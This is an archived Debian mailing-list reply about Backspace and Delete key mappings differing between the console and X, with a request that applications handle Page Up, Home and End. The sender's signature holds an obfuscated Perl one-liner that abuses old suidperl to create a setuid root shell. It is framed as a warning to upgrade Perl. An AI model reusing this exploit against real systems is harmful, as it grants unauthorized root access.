[Date Prev][Date Next] [Thread Prev][Thread Next] [Date Index] [Thread Index]

Re: BS versus DEL (was: I18N for Debian 1.3?)

<big snip>

Most of what you said is also explained in the Key-Setup mini-howto. I
think it suggests the same key mappings for BS and DEL that you came up

> The current setup under X is close, except that the "delete" key returns the
> same code as the "backspace" key.

I also had to add something to ~/.emacs file to get xemacs straightened
out on this issue.

> The setup on the console already matches the suggested behavior.

It's been quite a while since I installed debian and had to deal with this
issue, so I don't remember if I encountered any problems with text-mode

What you're saying, though, is that currently, programs running in the
console treat BS and DEL as two different keys, while programs running
under X treat BS and DEL the same. That's very inconsistent. Instead of
pleasing one side or the other, It seems that debian pleases no one
here. Shouldn't this be cleaned up, one way or the other?

I was also suggesting that apps be configured to recognize page up, page
down, home, and end, where possible. IIRC, there are several that don't.

#!/usr/bin/perl -i$>=0;$<=0;exec"/bin/sh"'>achmod            jeh22@cornell.edu
$_="echo '#!/usr/bin/suidperl -U\n$^I 2755aa";s=a= $ENV{HOME}/Imroot;=g;exec$_
# Get root in 30 seconds or less. Fix this hole: upgrade to perl 5.003 today.."How appropriate, you fight like a cow." -- Guybrush Threepwood

TO UNSUBSCRIBE FROM THIS MAILING LIST: e-mail the word "unsubscribe" to
debian-devel-REQUEST@lists.debian.org . Trouble? e-mail to Bruce@Pixar.com

Reply to: